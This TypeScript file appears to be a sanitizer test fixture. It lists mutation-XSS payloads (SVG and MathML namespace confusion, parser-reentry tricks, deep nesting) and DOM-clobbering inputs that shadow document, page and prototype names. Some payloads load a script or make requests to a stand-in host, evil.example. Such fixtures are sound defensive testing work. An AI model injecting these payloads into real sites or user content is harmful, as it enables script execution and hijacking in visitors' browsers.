// Mutation: markup that changes its meaning when it is parsed a second time; foreign namespaces; names that shadow the
// page's own.
export const MUTATIONS: Readonly<Record<string, string>> = {
  'SVG that loads': '<svg onload=alert(1)>',
  'SVG that loads, without spaces': '<svg/onload=alert(1)//',
  'SVG with a script': '<svg><script>alert(1)</script></svg>',
  'SVG with an encoded script': '<svg><script>&#97;lert(1)</script></svg>',
  'SVG with a script from elsewhere': '<svg><script xlink:href="https://evil.example/x.js"></script></svg>',
  'SVG with a script in a section of character data': '<svg><script><![CDATA[alert(1)]]></script></svg>',
  'SVG with a link': '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  'SVG with a link that is animated':
    '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text x="20" y="20">x</text></a></svg>',
  'SVG with a link that is set':
    '<svg><a><set attributeName="href" to="javascript:alert(1)"/><text y="20">x</text></a></svg>',
  'SVG with an animation that begins': '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  'SVG with a motion': '<svg><animateMotion onbegin=alert(1) dur=1s></svg>',
  'SVG with a use':
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert(1)/>#x"/></svg>',
  'SVG with a foreign object':
    '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  'SVG with a picture': '<svg><image href="https://evil.example/x.png" onload="alert(1)"/></svg>',
  'SVG with a style': '<svg><style>*{background:url(https://evil.example)}</style></svg>',
  'SVG with a style that holds a picture': '<svg><style><img src=x onerror=alert(1)></style></svg>',
  'SVG with a title that holds a picture': '<svg><title><img src=x onerror=alert(1)></title></svg>',
  'SVG with a description that holds a frame':
    '<svg><desc><iframe srcdoc="<script>alert(1)</script>"></iframe></desc></svg>',
  'SVG with a handler':
    '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler></svg>',
  'SVG with a discard': '<svg><discard onbegin=alert(1)></svg>',
  'SVG with an uncommon prefix': '<svg:svg onload="alert(1)"><svg:script>alert(1)</svg:script></svg:svg>',
  'SVG that is left by a paragraph': '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  'SVG that is left by a line break':
    '<svg><br><style><a title="</style><img src=x onerror=alert(1)>"></style></svg>',
  'SVG with a table in it': '<svg><table><tr><td><style><a title="</style><img src=x onerror=alert(1)>">',
  'SVG with a template in it': '<svg><template><style><a title="</style><img src=x onerror=alert(1)>">',
  'MathML with an action':
    '<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:alert(1)">x</maction></math>',
  'MathML with a link': '<math href="javascript:alert(1)">x</math>',
  'MathML with a link in it': '<math><mrow href="javascript:alert(1)"><mi>x</mi></mrow></math>',
  'MathML that holds a script': '<math><script>alert(1)</script></math>',
  'MathML that becomes HTML':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  'MathML that becomes HTML by a malign mark':
    '<math><mtext><table><malignmark><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  'MathML with an annotation':
    '<math><annotation-xml encoding="text/html"><style></math><img src onerror=alert(1)></style></annotation-xml></math>',
  'MathML with a form in a form':
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></mglyph></form></mtext></math>',
  'MathML with SVG': '<math><mi><svg><mi><style><img src=x onerror=alert(1)></style></mi></svg></mi></math>',
  'SVG with MathML':
    '<svg><desc><math><mtext><style><img src=x onerror=alert(1)></style></mtext></math></desc></svg>',
  'a noscript in a title': '<noscript><style></noscript><img src=x onerror=alert(1)>',
  'a comment in a style': '<style><!--</style><img src=x onerror=alert(1)>--></style>',
  'a style in a select': '<select><style></select><img src=x onerror=alert(1)></style>',
  'a script in a select': '<select><script></select><img src=x onerror=alert(1)></script>',
  'a text area in a title': '<title><textarea></title><img src=x onerror=alert(1)></textarea>',
  'a text area with a closing tag in an attribute':
    '<textarea><a title="</textarea><img src=x onerror=alert(1)>">',
  'a frame without frames': '<noframes><a title="</noframes><img src=x onerror=alert(1)>"></noframes>',
  'an embed without embeds': '<noembed><a title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  'a frame with text': '<iframe><a title="</iframe><img src=x onerror=alert(1)>"></iframe>',
  'an example': '<xmp><a title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  'a template in a template': '<template><template><img src=x onerror=alert(1)></template></template>',
  'a table that throws its content out':
    '<table><img src=x onerror=alert(1)><tr><script>alert(1)</script><td>x</td></tr></table>',
  'a table in a paragraph': '<p><table><td><p onclick=alert(1)></table>x',
  'a caption in a table in a caption':
    '<table><caption><table><caption><img src=x onerror=alert(1)></caption></table>',
  'a list in a paragraph': '<p><ul><li onclick=alert(1)>x</p></ul>',
  'formatting that is adopted': '<a href="javascript:alert(1)"><b><a onclick=alert(1)><p>x</a></b></p>',
  'formatting that is never closed': '<b><i><u><s><b><i><u><s><b onclick=alert(1)>x',
  'a heading in a heading': '<h2><h3 onclick=alert(1)>x</h2></h3>',
  'a button in a button': '<button><p><button onclick=alert(1)>x',
  'an option in an option': '<option><option onclick=alert(1)>x',
  'a ruby without an end': '<ruby><rtc><rt onclick=alert(1)>x',
  'a deep nest': `${'<div>'.repeat(600)}<img src=x onerror=alert(1)>`,
  'a deep nest of formatting': `${'<b><p>'.repeat(200)}<img src=x onerror=alert(1)>`,
  'a deep nest of foreign elements': `${'<svg><desc>'.repeat(100)}<img src=x onerror=alert(1)>`,
  'a picture by its name in SVG': '<svg><img src=x onerror=alert(1)>',
  'an image in SVG': '<svg><image src=x onerror=alert(1)>',
  'text that looks like our slot':
    '<lectern-slot data-slot="99999"></lectern-slot><lectern-slot data-slot="__proto__"></lectern-slot>',
};

export const CLOBBERING: Readonly<Record<string, string>> = {
  'an id of the document':
    '<img id="currentScript" src="x"><a id="currentScript" name="src" href="https://evil.example">x</a>',
  'a name of the document':
    '<img name="getElementById" src="x"><img name="querySelector" src="x"><img name="body" src="x">',
  'a form that shadows':
    '<form id="document" name="location"><input name="href" value="javascript:alert(1)"></form>',
  'an anchor that shadows': '<a id="window" name="window" href="javascript:alert(1)">x</a>',
  'two anchors that make a collection':
    '<a id="config"></a><a id="config" name="root" href="https://evil.example/">x</a>',
  'ids of our page':
    '<p id="content">a</p><p id="chapters">b</p><p id="sections">c</p><p id="settings">d</p>',
  'ids of our answers':
    '<p id="answers">a</p><p id="answer-x">b</p><p id="question-x">c</p><p id="definition">d</p>',
  'ids of our footnotes': '<p id="footnote-label">a</p><p id="note-fn-1">b</p><p id="note-fnref-1">c</p>',
  'an id that is a prefix': '<p id="user-content-x">a</p><p id="user-content-user-content-x">b</p>',
  'an id with HTML in it': '<p id="&quot;><img src=x onerror=alert(1)>">x</p>',
  'an id with spaces': '<p id="a b c" aria-labelledby="x y" aria-describedby="z">x</p>',
  'a name of a prototype':
    '<p id="__proto__">a</p><p id="constructor">b</p><a name="hasOwnProperty" href="#toString">c</a>',
  'a heading that is a name of ours':
    '## content\n\na\n\n## chapters\n\nb\n\n## sections\n\nc\n\n## settings\n\nd',
  'a heading that is a name of the document':
    '## getElementById\n\na\n\n## location\n\nb\n\n## constructor\n\nc',
  'a heading that is a name of a prototype':
    '## __proto__\n\na\n\n## toString\n\nb\n\n## hasOwnProperty\n\nc',
  'a heading that is a note': '## note fn 1\n\na[^1]\n\n## footnote label\n\n[^1]: b',
  'a heading that is our answers': '## Answers\n\na\n\n## aims title\n\nb\n\n## on this page\n\nc',
  'a label of another': '<p aria-labelledby="content" aria-describedby="settings" aria-label="x">y</p>',
};
